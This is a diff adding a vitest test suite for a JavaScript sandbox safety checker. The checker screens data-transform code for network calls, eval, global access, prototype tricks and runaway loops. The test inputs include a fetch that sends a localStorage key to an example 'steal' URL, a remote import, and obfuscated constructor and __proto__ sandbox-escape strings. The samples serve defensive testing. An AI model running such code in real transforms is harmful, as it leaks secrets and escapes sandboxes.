@@ -0,0 +1,141 @@
+import { describe, it, expect } from 'vitest';
+
+import { analyseTransformCode, createCodeSafetyError, instrumentTransformCode } from '../utils/codeSafety.js';
+import { executeJavaScriptDataTransform } from '../utils/dataProcessor.js';
+
+const review = code => analyseTransformCode(code);
+const rulesOf = result => result.violations.map(violation => violation.rule);
+
+describe('codeSafety', () => {
+  it('accepts ordinary transforms that use data, locals and whitelisted helpers', async () => {
+    const result = await review(`
+      const HEADER_MAPPING = { generic_0: 'Region', generic_1: 'Revenue' };
+      const out = [];
+      for (let i = 0; i < data.length; i++) {
+        const row = _util.applyHeaderMapping(data[i], HEADER_MAPPING);
+        row.Revenue = _util.parseNumber(row.Revenue);
+        if (!Number.isFinite(row.Revenue)) continue;
+        out.push(row);
+      }
+      _util.log({ stage: 'normalize', thought: 'done' });
+      return out.map(({ Region, ...rest }) => ({ Region: String(Region).trim(), ...rest }));
+    `);
+    expect(result).toEqual({ ok: true, violations: [] });
+  });
+
+  it('flags network, eval, globals, unbounded loops and unknown helpers', async () => {
+    const result = await review(`
+      fetch('https://example.com/steal?k=' + localStorage.getItem('key'));
+      const run = eval;
+      const g = globalThis;
+      import('https://example.com/x.js');
+      const F = (() => {}).constructor;
+      while (true) {}
+      _util.readFile('secrets');
+      return data;
+    `);
+    expect(result.ok).toBe(false);
+    expect(new Set(rulesOf(result))).toEqual(
+      new Set(['network', 'global_access', 'eval', 'unbounded_loop', 'util_not_allowed'])
+    );
+    const fetchViolation = result.violations.find(violation => violation.rule === 'network');
+    expect(fetchViolation).toMatchObject({ line: 2, snippet: 'fetch' });
+  });
+
+  it('folds literal keys so split-up "constructor" strings are still caught', async () => {
+    const result = await review(`
+      [][\'con\' + \'structor\'][\'con\' + \'structor\'](\'return globalThis\')();
+      const { [\`__proto__\`]: proto, constructor: Ctor } = data;
+      return data;
+    `);
+    expect(rulesOf(result)).toEqual(['eval', 'eval', 'eval', 'eval']);
+  });
+
+  it('rejects keys that are only known at run time unless they are numeric', async () => {
+    const result = await review(`
+      const x = {};
+      const k = '__proto__';
+      const proto = x[k];
+      const { [k]: same } = x;
+      for (const key in x) x[key] = 1;
+      return data;
+    `);
+    // The '__proto__' string itself is flagged too; the keys are rejected for being dynamic.
+    expect(rulesOf(result)).toEqual(['eval', 'dynamic_key', 'dynamic_key', 'dynamic_key']);
+    expect(result.violations[1]).toMatchObject({ line: 4, snippet: 'x[k]' });
+    expect(result.violations[1].message).toMatch(/_util\.getField/);
+
+    const numeric = await review(`
+      const out = [];
+      let last = data.length - 1;
+      for (let i = 0, j = 2; i < data.length; i += 1, j++) {
+        const row = data[i];
+        const prev = data[i > 0 ? i - 1 : 0];
+        const mid = data[Math.floor(last / 2)];
+        const name = _util.getField(row, HEADER);
+        _util.setField(row, name, data[j % 3]);
+        out.push(row, data[last], data[0]);
+      }
+      const HEADER = 'Region';
+      return out;
+    `);
+    expect(numeric).toEqual({ ok: true, violations: [] });
+  });
+
+  it('flags prototype keys passed as strings and prototype reflection', async () => {
+    const result = await review(`
+      const desc = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => 1), 'constructor');
+      const name = \`__pro\` + 'to__';
+      ({}).__lookupGetter__(name);
+      return data;
+    `);
+    expect(rulesOf(result)).toEqual(['eval', 'eval', 'eval', 'eval', 'eval']);
+    expect(result.violations.map(violation => violation.snippet)).toEqual([
+      'Object.getOwnPropertyDescriptor',
+      'Object.getPrototypeOf',
+      "'constructor'",
+      "\`__pro\` + 'to__'",
+      '({}).__lookupGetter__',
+    ]);
+  });
+
+  it('stops loops on a flag and runaway recursion at run time', async () => {
+    const flagLoop = 'let go = true;\nwhile (go) {}\nreturn data;';
+    const recursion = 'const fib = n => (n < 2 ? n : fib(n - 1) + fib(n - 2));\nreturn [{ value: fib(40) }];';
+    // Neither is a constant-true loop, so both pass the static review.
+    expect((await review(flagLoop)).ok).toBe(true);
+    expect((await review(recursion)).ok).toBe(true);
+    [flagLoop, recursion].forEach(code => {
+      expect(() => executeJavaScriptDataTransform([], instrumentTransformCode(code, { maxSteps: 1000 }))).toThrow(
+        /more than 1000 loop iterations and function calls/
+      );
+    });
+
+    const ordinary = 'const out = [];\nfor (const row of data) out.push({ ...row, n: 1 });\nreturn out.map(row => row);';
+    const guarded = instrumentTransformCode(ordinary, { maxSteps: 10 });
+    expect(guarded.split('\n')).toHaveLength(3);
+    expect(executeJavaScriptDataTransform([{ a: 1 }, { a: 2 }], guarded)).toEqual([
+      { a: 1, n: 1 },
+      { a: 2, n: 1 },
+    ]);
+    expect(rulesOf(await review('let __transformSteps = 0; return data;'))).toEqual(['forbidden_syntax']);
+  });
+
+  it('reports syntax errors as a violation instead of throwing', async () => {
+    const result = await review('return data.map(row => {');
+    expect(result.ok).toBe(false);
+    expect(rulesOf(result)).toEqual(['syntax']);
+    expect(result.violations[0].line).toBe(1);
+  });
+
+  it('builds an error whose failureContext lists the violations', async () => {
+    const code = 'for (;;) {}\nreturn data;';
+    const error = createCodeSafetyError(await review(code), code);
+    expect(error.message).toMatch(/rejected by the safety policy/);
+    expect(error.failureContext).toMatchObject({
+      type: 'unsafe_code',
+      codePreview: code,
+      violations: [expect.objectContaining({ rule: 'unbounded_loop', line: 1 })],
+    });
+  });
+});